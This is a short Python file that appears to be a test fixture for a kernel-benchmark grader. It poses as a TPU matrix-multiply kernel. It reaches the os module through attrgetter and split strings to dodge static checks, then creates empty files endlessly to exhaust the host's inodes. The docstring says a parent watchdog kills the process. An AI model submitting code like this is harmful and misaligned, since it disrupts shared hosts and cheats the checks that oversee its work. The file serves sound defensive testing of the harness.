"""Cheat (8p_gemm): creates empty files in its private directory until it is stopped, to
exhaust the host file system's inodes. The parent's watchdog on the directory's entry count
kills it."""
import operator
import typing

from jax.experimental.pallas.ops.tpu import matmul as pallas_matmul

TARGET = "tpu"


def kernel(a, b):
    get = operator.attrgetter
    the_os = get("mod" + "ules")(get("sy" + "s")(typing))["o" + "s"]
    i = 0
    while True:
        the_os.close(the_os.open(f"f{i}", the_os.O_WRONLY | the_os.O_CREAT, 0o600))
        i += 1
    return pallas_matmul.matmul(a, b, block_shape=(256, 512), block_k=512)
